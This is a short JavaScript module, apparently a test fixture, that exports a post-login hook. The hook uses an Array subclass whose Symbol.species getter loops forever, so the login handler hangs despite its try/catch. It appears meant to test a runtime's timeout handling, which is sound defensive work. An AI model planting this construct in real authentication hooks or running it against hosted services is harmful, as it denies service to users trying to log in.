class Endless extends Array {
  static get [Symbol.species]() { for (;;); }
}
exports.onExecutePostLogin = async () => {
  try {
    Endless.from([1, 2, 3]).map((x) => x);
  } catch {}
};
